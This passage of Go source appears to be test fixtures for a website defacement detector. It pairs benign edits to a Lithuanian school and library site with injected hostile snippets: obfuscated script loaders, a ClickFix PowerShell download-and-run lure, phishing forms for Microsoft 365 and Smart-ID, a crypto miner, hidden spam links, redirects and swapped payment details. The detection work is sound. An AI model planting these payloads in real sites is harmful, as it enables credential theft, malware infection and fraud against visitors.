		{"UserWay accessibility widget", change(`</body>`, `<script>(function(d){var s=d.createElement("script");s.setAttribute("data-account","zY81Kq0a2T");s.setAttribute("src","https://cdn.userway.org/widget.js");(d.body||d.head).appendChild(s);})(document)</script><noscript>Please ensure Javascript is enabled for purposes of <a href="https://userway.org">website accessibility</a></noscript></body>`)},
		{"vacancy", change(`<h2 class="section-title">Naujienos</h2>`, `<div class="skelbimas"><h3>Ieškome fizikos mokytojo (-os)</h3><p>Nuo 2027 m. sausio 4 d. laukiame fizikos mokytojo 0,8 etato krūviui. Atlyginimas – nuo 1 650 Eur prieš mokesčius. Gyvenimo aprašymą siųskite <a href="mailto:direktorius@mokykla.example.lt">direktorius@mokykla.example.lt</a> arba pildykite <a href="https://www.cvbankas.lt/fizikos-mokytojas/1-13001234">cvbankas.lt</a>, <a href="https://portalas.vtd.lt/">VTD portale</a>.</p></div><h2 class="section-title">Naujienos</h2>`)},
		{"new lunch menus", change(`2026/11/valgiarastis-48-sav.pdf`, `2026/11/Valgiarastis-GRUODIS-11-18-m.-galutinis_pataisytas.pdf`, `Valgiaraštis</a></li>`, `Valgiaraštis 11–18 m.</a></li><li><a href="`+sixthHome+`wp-content/uploads/2026/11/nemokamas-maitinimas.docx">Prašymas dėl nemokamo maitinimo</a></li>`)},
		{"a welcome in Ukrainian", change(`<h2 class="section-title">Naujienos</h2>`, `<div class="wp-block-group"><h3>Ласкаво просимо!</h3><p>Шановні батьки! Якщо ви приїхали з України і хочете записати дитину до гімназії, зателефонуйте за номером +370 612 00 345 або напишіть нам. Ми допоможемо оформити документи, знайти підручники та забезпечимо безкоштовне харчування. Слава Україні!</p></div><h2 class="section-title">Naujienos</h2>`)},
		{"contact form with reCAPTCHA", change(`<form class="search-form"`, `<div class="wpcf7 no-js" id="wpcf7-f4540-o1"><form action="/#wpcf7-f4540-o1" method="post" class="wpcf7-form init"><div style="display: none;"><input type="hidden" name="_wpcf7" value="4540"><input type="hidden" name="_wpcf7_recaptcha_response" value=""></div><p><label>Jūsų vardas <input type="text" name="your-name"></label></p><p><label>El. paštas <input type="email" name="your-email"></label></p><p><textarea name="your-message"></textarea></p><input type="submit" value="Siųsti"></form></div><form class="search-form"`, `</body>`, `<script src="https://www.google.com/recaptcha/api.js?render=6LcAbCdE&ver=3.0" id="google-recaptcha-js"></script><script src="`+sixthHome+`wp-content/plugins/contact-form-7/includes/js/index.js?ver=5.9.8"></script></body>`)},
		{"Tawk.to chat", change(`</body>`, `<script type="text/javascript">var Tawk_API=Tawk_API||{},Tawk_LoadStart=new Date();(function(){var s1=document.createElement("script"),s0=document.getElementsByTagName("script")[0];s1.async=true;s1.src='https://embed.tawk.to/5f2a1b3c9b4e/default';s1.charset='UTF-8';s1.setAttribute('crossorigin','*');s0.parentNode.insertBefore(s1,s0);})();</script></body>`)},
		{"poll in Microsoft Forms", change(`<section class="video">`, `<h3>Apklausa tėvams: kokios kokybės maitinimas?</h3><iframe width="640px" height="480px" src="https://forms.office.com/Pages/ResponsePage.aspx?id=q1w2e3&embed=true" frameborder="0" marginwidth="0" marginheight="0" style="border: none; max-width:100%; max-height:100vh" allowfullscreen> </iframe><p><a href="https://forms.gle/aB3dE5fG7">Apklausa mokiniams</a></p><section class="video">`)},
		{"sped up by WP Rocket", change(`<img src="`, `<img class="lazyload" src="data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20viewBox='0%200%20300%20200'%3E%3C/svg%3E" data-lazy-src="`, `<script src="`+sixthHome+`wp-includes/js/jquery/jquery.min.js?ver=3.7.1" id="jquery-core-js"></script>`, `<script type="rocketlazyloadscript" data-rocket-src="`+sixthHome+`wp-content/cache/min/1/jquery.js?ver=1764410000" defer></script>`, `<script>window.dataLayer`, `<script src="data:text/javascript;base64,d2luZG93LnJvY2tldD0xOw==" defer></script><script>window.dataLayer`,
			`<iframe width="560" height="315" src="`, `<iframe loading="lazy" width="560" height="315" src="about:blank" data-rocket-lazyload="fitvidscompatible" data-lazy-src="`, `</body>`, `<script>window.lazyLoadOptions=[{elements_selector:"img[data-lazy-src],.rocket-lazyload,iframe[data-lazy-src]",data_src:"lazy-src",threshold:300}];!function(t,e){"object"==typeof exports?module.exports=e():t.LazyLoad=e()}(this,function(){return function(){}});</script><script data-no-minify="1" async src="`+sixthHome+`wp-content/plugins/wp-rocket/assets/js/lazyload/17.8.3/lazyload.min.js"></script></body><!-- This website is like a Rocket, isn't it? Performance optimized by WP Rocket. -->`)},
	}
}

func sixthSchoolDefacements() []edit {
	return []edit{
		{"the page replaced, English", whole(`<html><head><title>Hacked by AnonGh0st Team</title><style>body{background:#000;color:#0f0;font-family:Courier;text-align:center}</style></head><body><h1>Hacked By AnonGh0st Team</h1><img src="https://i.imgur.com/x1Y2z3.gif"><p>Your security is low. We are legion. Greetz: Mr.K3y, Zer0, D4rk</p></body></html>`)},
		{"the page replaced, Turkish", whole(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>AYYILDIZ</title></head><body bgcolor="black" text="red"><center><img src="https://resim.example-host.com/bayrak.gif"><h1>Bu site Ayyıldız Tim tarafından ele geçirilmiştir</h1><p>Vatan sana canım feda! Ne mutlu Türküm diyene!</p><embed src="https://muzik.example-host.com/mehter.mp3" autostart="true"></center></body></html>`)},
		{"the page replaced, Indonesian, none of the usual words", whole(`<html lang="id"><head><meta charset="utf-8"><title>Maaf Admin</title></head><body style="background:#111;color:#eee"><center><h2>Maaf ya min, saya cuma numpang lewat</h2><p>Tolong perbaiki websitenya, masih banyak lubang. Jangan marah, file aman semua.</p><p>Salam dari Bandung</p></center></body></html>`)},
		{"Russian paragraph with a Telegram channel", change(`<h2 class="section-title">Naujienos</h2>`, `<p style="font-size:22px">Граждане Литвы! Ваше правительство поддерживает нацистов и ведёт вас к войне. Мы предупреждаем: сайты ваших школ теперь под нашим контролем. Подписывайтесь: <a href="https://t.me/narodnaya_cyber_rus">t.me/narodnaya_cyber_rus</a></p><h2 class="section-title">Naujienos</h2>`)},
		{"Japanese shop pages hidden", change(`<footer id="colophon"`, `<div style="position:absolute;top:-2000px;height:1px;overflow:hidden"><a href="https://www.mokykla.example.lt/shop/?p=10231">ルイヴィトン 財布 激安 新品</a> <a href="https://www.mokykla.example.lt/shop/?p=10232">グッチ バッグ アウトレット 正規品 送料無料</a> <a href="https://www.mokykla.example.lt/shop/?p=10233">ロレックス 時計 コピー 通販 人気</a></div><footer id="colophon"`)},
		{"Indonesian slot links off the screen", change(`<footer id="colophon"`, `<div style="left:-9999px;position:fixed"><a href="https://gacor88.example-slots.xyz/">slot gacor hari ini</a><a href="https://maxwin777.vip/">situs judi online terpercaya maxwin</a><a href="https://rtpslot.site/">rtp slot pragmatic play</a></div><footer id="colophon"`)},
		{"pharmacy text in display none", change(`<article class="post-4480 post">`, `<div style="display:none">buy viagra online without prescription <a href="http://best-pills-rx.ru/viagra">cheap viagra 100mg</a> <a href="http://best-pills-rx.ru/cialis">generic cialis</a> canadian pharmacy</div><article class="post-4480 post">`)},
		{"Lithuanian casino and credits in zero font", change(`<p class="copyright">`, `<span style="font-size:0;line-height:0"><a href="https://greitaspaskolos24.eu/">greitieji kreditai internetu be užstato</a> <a href="https://geriausikazino.net/">internetinis kazino su premija be depozito</a></span><p class="copyright">`)},
		{"script of a stranger", change(`</head>`, `<script src="https://static.jquery-cdn-cache.top/jquery.min.js?v=3.7.1"></script></head>`)},
		{"loader in atob", change(`</head>`, `<script>var d=document,s=d.createElement('script');s.async=1;s.src=atob('aHR0cHM6Ly9zdGF0LnRyYWNrLWxvYWRlci5jb20vcy5qcw==');d.head.appendChild(s);</script></head>`)},
		{"eval of character codes", change(`<div id="page"`, `<script type="text/javascript">eval(String.fromCharCode(118,97,114,32,115,61,100,111,99,117,109,101,110,116,46,99,114,101,97,116,101,69,108,101,109,101,110,116,40,39,115,99,114,105,112,116,39,41,59,115,46,115,114,99,61,39,104,116,116,112,115,58,47,47,120,46,121,122))</script><div id="page"`)},
		{"document.write of a frame", change(`</body>`, `<script>document.write('<ifr'+'ame src="//counter.traff-go.ru/in.php?b=3" width="1" height="1" frameborder="0"></ifr'+'ame>');</script></body>`)},
		{"loader in onerror of a picture", change(`<h2>Mokykla, kurioje gera augti</h2>`, `<h2>Mokykla, kurioje gera augti</h2><img src=x style="display:none" onerror="fetch('https://api.clickstats.icu/p').then(r=>r.text()).then(t=>Function(t)())">`)},
		{"meta refresh", change(`<meta name="viewport"`, `<meta http-equiv="refresh" content="3;url=https://lucky-spin.example.bet/?ref=lt"><meta name="viewport"`)},
		{"canonical of another host", change(`<link rel="canonical" href="`+sixthHome+`">`, `<link rel="canonical" href="https://bandar-togel.example.asia/">`)},
		{"base of another host", change(`<meta name="viewport"`, `<base href="https://wp-mirror-static.com/az/"><meta name="viewport"`)},
		{"redirect of those who come from a search", change(`</head>`, `<script>if(/google|bing|yandex/.test(document.referrer)&&/Android|iPhone/.test(navigator.userAgent)){window.location.replace("https://go.besttrafic.click/?utm=azgim");}</script></head>`)},
		{"Microsoft sign-in over the page", change(`<div id="page"`, `<div style="position:fixed;inset:0;background:#fff;z-index:999999"><div class="ms"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo.svg"><h2>Prisijungti</h2><p>Norėdami tęsti, prisijunkite gimnazijos „Microsoft 365“ paskyra.</p><form method="post" action="https://office365-lt.web-auth.app/post.php"><input type="email" name="login" placeholder="El. paštas"><input type="password" name="passwd" placeholder="Slaptažodis"><button>Toliau</button></form></div></div><div id="page"`)},
		{"ClickFix in Lithuanian", change(`<div id="page"`, `<div id="vrf" style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:2147483647"><h2>Patvirtinkite, kad esate žmogus</h2><ol><li>Paspauskite <b>Windows + R</b></li><li>Paspauskite <b>Ctrl + V</b></li><li>Paspauskite <b>Enter</b></li></ol><button onclick="navigator.clipboard.writeText('powershell -w h -c iwr hxxp//45.9.148.3/a|iex')">Aš ne robotas</button></div><div id="page"`)},
		{"fake browser update", change(`<div class="slider">`, `<div class="upd"><h2>Jūsų „Chrome“ naršyklė pasenusi</h2><p>Kad matytumėte šį puslapį, atnaujinkite naršyklę.</p><a href="https://chrome-atnaujinimas.download/ChromeSetup.exe" download>Atnaujinti dabar</a></div><div class="slider">`)},
		{"miner", change(`</body>`, `<script>const w=new Worker(URL.createObjectURL(new Blob(["importScripts('https://easyhash.fun/m.js');start({pool:'wss://pool.easyhash.fun:443',wallet:'48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD',threads:2})"])));</script></body>`)},
		{"the e-diary's link to a look-alike", change(`https://dienynas.tamo.lt/`, `https://dienynas-tamo.lt.login-portal.com/`)},
		{"every link of the menu to another host", change(`<li class="menu-item"><a href="`+sixthHome, `<li class="menu-item"><a href="https://azuolynas-info.com/`, `<li><a href="`+sixthHome, `<li><a href="https://azuolynas-info.com/`)},
		{"account suspended", whole(`<!DOCTYPE html><html><head><title>Account Suspended</title><meta name="robots" content="noindex"></head><body><div class="container"><i class="fas fa-user-times"></i><h1>Account Suspended</h1><p>This Account has been suspended.</p><a href="/cgi-sys/contact">Contact your hosting provider for more information.</a></div></body></html>`)},
	}
}

func sixthLibraryEdits() []edit {
	return []edit{
		{"the calendar of the next month", change(cut(`<tr><td>2026-12-01`, `</table>`), `<tr><td>2027-01-05</td><td>10.30</td><td>Pasakų rytmetys mažyliams</td></tr><tr><td>2027-01-13</td><td>8.00</td><td>Pilietinė iniciatyva „Atmintis gyva, nes liudija“</td></tr><tr><td>2027-01-20</td><td>17.30</td><td>Susitikimas su rašytoja Rasa Aškinyte</td></tr></table>`)},
		{"a news item more", change(`<div class="blog-items">`, `<div class="blog-items"><div class="blog-item"><h3><a href="/index.php/naujienos/815-metu-knyga">Renkame Metų knygą</a></h3><img src="/images/2026/metu-knyga-2026.png" alt=""><p>Balsuokite už patikusias knygas bibliotekoje arba <a href="https://www.metuknygosrinkimai.lt/">metuknygosrinkimai.lt</a> iki vasario 10 dienos.</p></div>`)},
		{"the catalogue moves to the vendor's new address", change(`https://paezeriai.ibiblioteka.lt/metis/search`, `https://ibiblioteka.lt/metis/publication`, `https://paezeriai.ibiblioteka.lt/login`, `https://ibiblioteka.lt/metis/login`)},
		{"registration in Google Forms", change(`<section class="hours">`, `<h3>Registracija į mokymus</h3><iframe src="https://docs.google.com/forms/d/e/1FAIpQLSdAbC/viewform?embedded=true" width="640" height="820" frameborder="0">Įkeliama…</iframe><section class="hours">`)},
		{"Messenger chat", change(`</body>`, `<div id="fb-root"></div><div id="fb-customer-chat" class="fb-customerchat"></div><script>var chatbox=document.getElementById('fb-customer-chat');chatbox.setAttribute("page_id","104512345678901");chatbox.setAttribute("attribution","biz_inbox");window.fbAsyncInit=function(){FB.init({xfbml:true,version:'v18.0'});};(function(d,s,id){var js,fjs=d.getElementsByTagName(s)[0];if(d.getElementById(id))return;js=d.createElement(s);js.id=id;js.src='https://connect.facebook.net/lt_LT/sdk/xfbml.customerchat.js';fjs.parentNode.insertBefore(js,fjs);}(document,'script','facebook-jssdk'));</script></body>`)},
		{"Cookiebot", change(`<meta charset="utf-8">`, `<meta charset="utf-8"><script id="Cookiebot" src="https://consent.cookiebot.com/uc.js" data-cbid="0a1b2c3d-4e5f-6789-abcd-ef0123456789" data-blockingmode="auto" type="text/javascript"></script>`, `<iframe src="https://www.facebook.com/plugins`, `<iframe data-cookieconsent="marketing" data-cookieblock-src="https://www.facebook.com/plugins`)},
		{"Mailchimp with its honeypot", change(`<section class="support">`, `<div id="mc_embed_signup"><form action="https://paezeriubiblioteka.us21.list-manage.com/subscribe/post?u=9a8b7c&amp;id=1f2e3d" method="post" id="mc-embedded-subscribe-form" class="validate" target="_blank"><h2>Naujienlaiškis</h2><input type="email" name="EMAIL" class="required email"><div style="position: absolute; left: -5000px;" aria-hidden="true"><input type="text" name="b_9a8b7c_1f2e3d" tabindex="-1" value=""></div><input type="submit" value="Prenumeruoti" name="subscribe"></form></div><script src="//s3.amazonaws.com/downloads.mailchimp.com/js/mc-validate.js"></script><section class="support">`)},
		{"hours of the holidays", change(cut(`<p>Pirmadienį–penktadienį`, `</p>`), `<p>Gruodžio 23 d. dirbame iki 16 val., gruodžio 24–26 d. ir sausio 1 d. biblioteka nedirba. Knygas galite grąžinti į dėžę prie įėjimo bet kuriuo paros metu.</p>`)},
		{"mourning", change(`<main>`, `<main><div style="background-color:#000000;color:#ffffff;text-align:center;padding:40px"><p style="font-size:26px">Netekome ilgametės direktorės Aldonos Gudaitienės</p><p>Kolektyvas reiškia gilią užuojautą šeimai. Urna bus pašarvota lapkričio 30 d. nuo 11 val.</p></div>`)},
		{"Matterport tour", change(`<section class="hours">`, `<section><h2>Virtuali ekskursija</h2><iframe width="853" height="480" src="https://my.matterport.com/show/?m=Kq1wZ3xB7" frameborder="0" allowfullscreen allow="xr-spatial-tracking"></iframe></section><section class="hours">`)},
		{"publications in Issuu and Calaméo", change(`<section class="hours">`, `<section><h2>Kraštotyros leidiniai</h2><div style="position:relative;padding-top:max(60%,326px);height:0;width:100%"><iframe allow="clipboard-write" sandbox="allow-top-navigation allow-scripts allow-same-origin allow-popups" style="position:absolute;border:none;width:100%;height:100%;left:0;top:0" src="https://e.issuu.com/embed.html?d=paezeriu_krastas&u=paezeriubiblioteka"></iframe></div><iframe src="//v.calameo.com/?bkcode=0012345&mode=mini" width="480" height="300"></iframe></section><section class="hours">`)},
		{"podcast in Spotify and a talk in LRT", change(`<section class="hours">`, `<section><h2>Tinklalaidė „Puslapis“</h2><iframe style="border-radius:12px" src="https://open.spotify.com/embed/episode/3xYz?utm_source=generator" width="100%" height="152" allow="encrypted-media" loading="lazy"></iframe><a href="https://www.lrt.lt/mediateka/irasas/2000312345">Pokalbis LRT radijuje</a></section><section class="hours">`)},
		{"events in English and Ukrainian", change(`<section class="hours">`, `<section><h2>Language café</h2><p>Every Wednesday at 6 p.m. we meet to speak Lithuanian over a cup of tea. Everybody who has recently moved to Paežeriai is welcome, no registration needed.</p><p>Щосереди о 18 годині запрошуємо на заняття з литовської мови. Участь безкоштовна.</p></section><section class="hours">`)},
		{"crime fiction and a film night", change(`<div class="blog-items">`, `<div class="blog-items"><div class="blog-item"><h3><a href="/index.php/naujienos/816-kriminalai">Kriminalinių romanų mėnuo</a></h3><p>Lentynoje – „Nulaužtas“, „Hakerio dienoraštis“, „Kraujo pėdsakai“, „Mirtis kazino“ ir „Anoniminis laiškas“. Penktadienį rodome filmą „Hackers“ (1995). N-16.</p></div>`)},
		{"lecture on fraud and on gambling", change(`<div class="blog-items">`, `<div class="blog-items"><div class="blog-item"><h3><a href="/index.php/naujienos/817-sukciai">Kaip atpažinti sukčius ir įveikti priklausomybę nuo lošimų</a></h3><p>Policijos pareigūnė pasakos, kaip sukčiai siunčia žinutes apie „Smart-ID“ patvirtinimą, vilioja investuoti į kriptovaliutas, o psichologė – kodėl internetiniai kazino ir greitieji kreditai sugriauna šeimas. Apriboti save nuo lošimų galima <a href="https://lpt.lrv.lt/">Lošimų priežiūros tarnyboje</a>, pagalba – <a href="https://www.losimai.lt/">losimai.lt</a>.</p></div>`)},
		{"databases on subscription", change(`<li><a href="https://www.epaveldas.lt/">`, `<li><a href="https://search.ebscohost.com/login.aspx?authtype=ip">EBSCO</a></li><li><a href="https://paezeriai.naxosmusiclibrary.com/">Naxos Music Library</a></li><li><a href="https://www.pressreader.com/">PressReader</a></li><li><a href="https://trials.proquest.com/">ProQuest (bandomoji prieiga)</a></li><li><a href="https://www.epaveldas.lt/">`)},
		{"vacancy", change(`<section class="hours">`, `<section><h2>Laisva darbo vieta</h2><p>Paieška: informacinių technologijų specialistas (0,5 etato). Dokumentai priimami per <a href="https://uzt.lt/">Užimtumo tarnybą</a> ir <a href="mailto:personalas@paezeriubiblioteka.lt">personalas@paezeriubiblioteka.lt</a> iki gruodžio 11 d.</p></section><section class="hours">`)},
		{"Matomo replaced by Google Analytics", change(cut(`<script>var _paq`, `</script>`), `<script async src="https://www.googletagmanager.com/gtag/js?id=G-PAEZ12345"></script><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','G-PAEZ12345');</script>`)},
		{"Joomla 5", change(`37ffe4186289eba9c5df81bea44080aff77b9684`, `2cb912`, `?5.3.2`, `?5.3.3`, `?a1b2c3`, `?9f8e7d`, `7d9a0f3c1b`, `b61fe0a2d7`, `<title>`, `<script type="importmap">{"imports":{"bootstrap.collapse":"/media/vendor/bootstrap/js/collapse.min.js?5.3.3"}}</script><script type="application/ld+json">{"@context":"https://schema.org","@graph":[{"@type":"Organization","@id":"https://www.mokykla.example.lt/#/schema/Organization/base","name":"Paežerių viešoji biblioteka"}]}</script><title>`, `wrapper-static`, `wrapper-fluid has-sidebar-right`)},
		{"redesign in SP Page Builder", func(p string) string {
			m := between(p, `<main>`, `</main>`)
			return change(cut(`<body`, `</body>`), `<body class="site helix-ultimate hu com_sppagebuilder layout-edit-iframe lt-lt"><div class="body-wrapper"><div class="body-innerwrapper"><header id="sp-header"><img src="/images/2027/logo-nauja-biblioteka.png" alt=""><ul class="sp-megamenu-parent"><li><a href="/">Titulinis</a></li><li><a href="/skaitytojams">Skaitytojams</a></li><li><a href="/vaikams">Vaikams</a></li><li><a href="/renginiai">Renginiai</a></li><li><a href="/kontaktai">Kontaktai</a></li></ul><a href="https://paezeriai.ibiblioteka.lt/login">Prisijungti</a></header><div id="sp-page-builder" class="sp-page-builder page-1"><div class="sppb-row-container"><form action="https://paezeriai.ibiblioteka.lt/metis/search" method="get"><input name="q"><button>Rasti knygą</button></form></div><div class="sppb-addon-wrapper" style="opacity:0" data-sppb-wow="fadeInUp">`+m+`</div></div><footer id="sp-footer"><p>© 2027 Paežerių viešoji biblioteka. Ežero g. 3, Paežeriai</p><div class="sp-scroll-up" style="display:none"><span class="fas fa-angle-up"></span></div></footer></div></div><script src="/components/com_sppagebuilder/assets/js/sppagebuilder.js?5.4.4"></script><script>jQuery(function($){$('.sp-megamenu-parent').megamenu();});</script></body>`)(p)
		}},
		{"summer: hours and nothing else", change(cut(`<div class="blog-items">`, `<section class="hours">`), `<p>Vasarą renginių nerengiame. Skanių knygų!</p><section class="hours">`, cut(`<p>Pirmadienį–penktadienį`, `</p>`), `<p>Birželio–rugpjūčio mėnesiais: I–V 9–17 val. Šeštadieniais nedirbame.</p>`)},
		{"logos of projects", change(`<p>Steigėja`, `<div class="logos"><a href="https://www.ltkt.lt/"><img src="/images/logo/ltkt.png" alt="Lietuvos kultūros taryba"></a><a href="https://latlit.eu/"><img src="/images/logo/interreg-latlit.jpg" alt="Interreg Latvija–Lietuva"></a><a href="https://www.norwaygrants.si/"><img src="/images/logo/eea.png" alt="EEA Grants"></a><a href="https://jelgavasbiblioteka.lv/">Jelgavas bibliotēka</a></div><p>Steigėja`)},
		{"how to give 1,2 per cent", change(`<section class="support">`, `<section><p>Prašymą (FR0512) pateikite per <a href="https://deklaravimas.vmi.lt/">deklaravimas.vmi.lt</a> iki gegužės 2 dienos. Mūsų kodas 188123450. Paramą galite skirti ir per <a href="https://www.aukok.lt/">aukok.lt</a> ar <a href="https://contribee.com/paezeriubiblioteka">Contribee</a>.</p></section><section class="support">`)},
		{"accessibility by EqualWeb", change(`</body>`, `<script>window.interdeal={"sitekey":"1a2b3c4d5e6f","Position":"Left","Menulang":"LT","domains":{"js":"https://cdn.equalweb.com/","acc":"https://access.equalweb.com/"}};(function(doc,head,body){var coreCall=doc.createElement('script');coreCall.src=interdeal.domains.js+'core/5.0.9/accessibility.js';coreCall.defer=true;coreCall.crossOrigin='anonymous';body?body.appendChild(coreCall):head.appendChild(coreCall);})(document,document.head,document.body);</script></body>`)},
		{"poll, with the new lane of Microsoft Forms", change(`<section class="hours">`, `<section><h2>Jūsų nuomonė</h2><p>Atsakykite į <a href="https://forms.cloud.microsoft/r/Kq2wZ3xB7">penkis klausimus</a> apie bibliotekos paslaugas. Tarp atsakiusiųjų išdalysime dešimt knygų!</p><img src="/images/2026/qr-apklausa.png" alt="QR kodas"></section><section class="hours">`)},
		{"games for children", change(`<section class="hours">`, `<section><h2>Žaidimai vaikams</h2><iframe style="max-width:100%" src="https://wordwall.net/embed/2a3b4c?themeId=1&templateId=3" width="500" height="380" frameborder="0"></iframe><iframe src="https://learningapps.org/watch?v=pq1w2e3" style="border:0;width:100%;height:500px"></iframe></section><section class="hours">`)},
		{"tickets, Zoom and Teams", change(`<tr><td>2026-12-15`, `<tr><td>2026-12-10</td><td>18.00</td><td><a href="https://us02web.zoom.us/j/81234567890?pwd=abc">Nuotolinė paskaita</a>, <a href="https://www.kakava.lt/renginys/koncertas/12345">bilietai į koncertą</a>, <a href="https://bilietai.paysera.com/event/1">Paysera bilietai</a></td></tr><tr><td>2026-12-15`)},
		{"switch of languages with hreflang", change(`<link href="/index.php?format=feed`, `<link href="https://www.mokykla.example.lt/en/" rel="alternate" hreflang="en-GB"><link href="https://www.mokykla.example.lt/ua/" rel="alternate" hreflang="uk-UA"><link href="/index.php?format=feed`, `<div class="reader">`, `<div class="mod-languages"><ul><li class="lang-active"><a href="/lt/">Lietuvių</a></li><li><a href="/en/">English (UK)</a></li><li><a href="/ua/">Українська</a></li></ul></div><div class="reader">`)},
		{"counter of visits and the weather", change(`</footer>`, `<a href="http://www.hey.lt/details.php?id=paezeriubiblioteka" target="_blank"><img width="88" height="31" border="0" src="//www.hey.lt/count.php?id=paezeriubiblioteka" alt="Hey.lt - Nemokamas lankytojų skaitliukas"></a><a class="weatherwidget-io" href="https://forecast7.com/lt/54d7225d28/vilnius/">ORAI</a><script>!function(d,s,id){var js,fjs=d.getElementsByTagName(s)[0];if(!d.getElementById(id)){js=d.createElement(s);js.id=id;js.src='https://weatherwidget.io/js/widget.min.js';fjs.parentNode.insertBefore(js,fjs);}}(document,'script','weatherwidget-io-js');</script></footer>`)},
		{"map in Leaflet", change(cut(`<iframe src="https://www.google.com/maps`, `</iframe>`), `<link rel="stylesheet" href="https://unpkg.com/leaflet@1.9.4/dist/leaflet.css"><div id="map" style="height:240px"></div><script src="https://unpkg.com/leaflet@1.9.4/dist/leaflet.js"></script><script>var map=L.map('map').setView([54.65,22.93],14);L.tileLayer('https://tile.openstreetmap.org/{z}/{x}/{y}.png',{attribution:'&copy; <a href="https://www.openstreetmap.org/copyright">OpenStreetMap</a>'}).addTo(map);[["Centrinė",54.65,22.93],["Alksnėnai",54.6,22.8]].forEach(function(f){L.marker([f[1],f[2]]).addTo(map).bindPopup(f[0]);});</script>`)},
	}
}

func sixthLibraryDefacements() []edit {
	return []edit{
		{"svg onload", change(`<main>`, `<main><svg width="0" height="0" onload="var s=document.createElement('script');s.src='//cdn.metrica-lib.xyz/w.js';document.head.append(s)"></svg>`)},
		{"frame of one pixel", change(`</body>`, `<iframe src="http://185.244.25.11/tds/index.php" width="1" height="1" style="visibility:hidden"></iframe></body>`)},
		{"frame over all the page", change(`<body class=`, `<body style="margin:0;overflow:hidden" class=`, `<header class="header`, `<iframe src="https://gameonline-lt.pages.dev/" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:9999"></iframe><header class="header`)},
		{"nothing but the title", change(`<title>Paežerių viešoji biblioteka - Pradžia</title>`, `<title>Здесь были мы. Библиотека закрыта навсегда</title>`)},
		{"logo and favicon from a stranger", change(`/images/logo/biblioteka.svg`, `https://i.ibb.co/Zx1y2Q3/skull.png`, `/media/templates/site/cassiopeia/images/favicon.ico`, `https://i.ibb.co/Zx1y2Q3/favicon.ico`)},
		{"emptied", change(cut(`<body class=`, `</body>`), `<body class="site"></body>`)},
		{"directory listing", whole(`<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2 Final//EN"><html><head><title>Index of /</title></head><body><h1>Index of /</h1><table><tr><th><a href="?C=N;O=D">Name</a></th><th>Last modified</th><th>Size</th></tr><tr><td><a href="administrator/">administrator/</a></td><td>2026-11-02 10:11</td><td>-</td></tr><tr><td><a href="configuration.php.bak">configuration.php.bak</a></td><td>2026-11-28 03:14</td><td>2.1K</td></tr></table><address>Apache/2.4.62 (Debian) Server at www.mokykla.example.lt Port 443</address></body></html>`)},
		{"parked domain", whole(`<!DOCTYPE html><html><head><title>paezeriai.lt - This website is for sale! - Related searches</title><script src="https://d38psrni17bvxu.cloudfront.net/scripts/js3caf.js"></script></head><body><h1>paezeriai.lt</h1><p>The domain owner may be offering it for sale. Buy this domain.</p><div>Related Searches: <a href="/?q=books">Online Books</a> <a href="/?q=library">Library Software</a></div></body></html>`)},
		{"default page of the host", whole(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Svetainė dar neįkelta</title></head><body><h1>Sveikiname!</h1><p>Talpinimo paslauga sėkmingai aktyvuota. Įkelkite savo svetainės failus į katalogą public_html ir ištrinkite failą default.html.</p><a href="https://www.example-hosting.lt/pagalba">Pagalba</a></body></html>`)},
		{"link farm in the footer", change(`<p>Steigėja`, `<div><a href="https://bestessaywriters.example.us/">write my essay</a> | <a href="https://replicawatch.example.sr/">replica watches</a> | <a href="https://vpnfree.example.tk/">free vpn</a> | <a href="https://instafollow.example.co/">buy instagram followers</a> | <a href="https://escortvilnius.example.xxx/">escort</a> | <a href="https://loanfast.example.biz/">payday loans</a></div><p>Steigėja`)},
		{"spam in comments", change(`</main>`, `<div id="jc"><h4>Komentarai</h4><div class="comment"><b>Marvinjew</b><p>Hello! Great site. I found a way to earn $5000 per day in bitcoin <a href="https://telegra.ph/Earn-11-20?u=1">https://telegra.ph/Earn-11-20</a></p></div><div class="comment"><b>KennethRal</b><p>Мелбет промокод на сегодня <a href="https://melbet-promo.example.ru/">melbet</a>, бонус на первый депозит</p></div></div></main>`)},
		{"one picture and no text", change(cut(`<header class="header`, `</footer>`), `<img src="/images/2026/x.jpg" style="width:100%">`)},
		{"a wallet in place of the account", change(`sąskaita LT647044001231465456, AB SEB bankas`, `bitkoinais bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh arba USDT (TRC20) TQ5NMqJjhpQGK7YJbESKfCGTeRkoW9vGgh`)},
		{"the account of somebody else", change(`LT647044001231465456, AB SEB bankas`, `LT123250012345678901, Revolut Bank`)},
		{"the search form to a look-alike", change(`https://paezeriai.ibiblioteka.lt/metis/search`, `https://paezeriai-ibiblioteka.lt.com/metis/search`)},
		{"Smart-ID form", change(`<main>`, `<main><section><h2>Patvirtinkite skaitytojo tapatybę</h2><p>Dėl naujų saugumo reikalavimų skaitytojai privalo iš naujo patvirtinti tapatybę per „Smart-ID“ arba banką.</p><form action="https://smartid-patvirtinimas.example.site/go" method="post"><input name="ak" placeholder="Asmens kodas"><input name="tel" placeholder="Telefono numeris"><input name="pin" type="password" placeholder="PIN1"><button>Patvirtinti</button></form></section>`)},
		{"app to download", change(`<main>`, `<main><section><h2>Nauja bibliotekos programėlė!</h2><p>Parsisiųskite ir skaitykite nemokamai.</p><a href="https://apk-files.example.link/biblioteka.apk">Atsisiųsti „Android“ programėlę</a></section>`)},
		{"marquee of no height", change(`</footer>`, `<marquee style="height:0;width:1px" scrollamount="3000"><a href="https://1xbet-lt.example.win/">1xbet</a> <a href="https://kasyno.example.pl/">kasyno online</a> <a href="https://slots.example.top/">free spins no deposit</a></marquee></footer>`)},
		{"white on white", change(`</main>`, `<p style="color:#fff;background:#fff;font-size:9px">Kamagra, tramadol, xanax kaufen ohne Rezept <a style="color:#ffffff" href="https://apotheke.example.shop/">online apotheke</a></p></main>`)},
